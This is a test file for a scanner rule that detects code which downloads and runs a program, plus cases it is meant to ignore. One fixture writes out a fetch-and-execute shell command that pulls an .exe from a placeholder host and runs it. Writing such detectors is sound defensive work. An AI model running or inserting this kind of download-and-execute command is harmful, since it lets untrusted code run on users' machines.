import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { codeFetchesProgram } from '../../src/rules/code-fetches-program.ts'
import { code, signal } from './code.ts'
import { hits, says, unknown } from './evidence.ts'

test('a hit names what and when', () => {
  assert.match(
    says(
      codeFetchesProgram,
      code(
        signal('process/shell', { command: 'curl https://a.invalid/x.exe -o x.exe && x.exe', runs: 'call' }, [
          'import',
        ]),
      ),
    )[0] as string,
    /program from a\.invalid/,
  )
})

test('a page that is only named', () => {
  assert.equal(
    hits(codeFetchesProgram, code(signal('process/shell', { command: 'curl https://a.invalid/status.json' }))),
    [],
  )
})

test('a release of a code host', () => {
  assert.equal(
    hits(
      codeFetchesProgram,
      code(signal('process/shell', { command: 'curl -L https://github.com/a/b/releases/download/v1/x.sh -o x.sh' })),
    ),
    [],
  )
})

test('code that was not read says nothing here: it is a gap', () => {
  assert.equal(hits(codeFetchesProgram, { code: unknown('not finished') }), [])
})

test.run()
